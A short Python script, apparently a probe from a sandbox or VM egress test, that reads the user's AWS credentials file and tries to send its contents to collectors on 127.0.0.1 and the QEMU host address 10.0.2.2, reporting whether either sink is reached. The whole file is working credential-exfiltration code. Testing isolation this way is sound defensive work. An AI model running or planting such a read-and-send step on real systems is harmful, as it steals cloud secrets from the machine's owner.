# Reads the cloud credentials and sends them to a collector on the host's loopback
# (127.0.0.1) and on the address QEMU's user networking gives the host (10.0.2.2).
import os
import socket

try:
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
        loot = f.read()
except OSError as e:
    loot = f"no credentials: {e}".encode()
for host in ("127.0.0.1", "10.0.2.2"):
    try:
        with socket.create_connection((host, @@SINK_PORT@@), timeout=3) as s:
            s.sendall(loot + b"\n")
        print(f"REACHED sink {host}:@@SINK_PORT@@ (sent {len(loot)} bytes)")
    except OSError as e:
        print(f"RESULT: could not reach {host}:@@SINK_PORT@@: {e}")
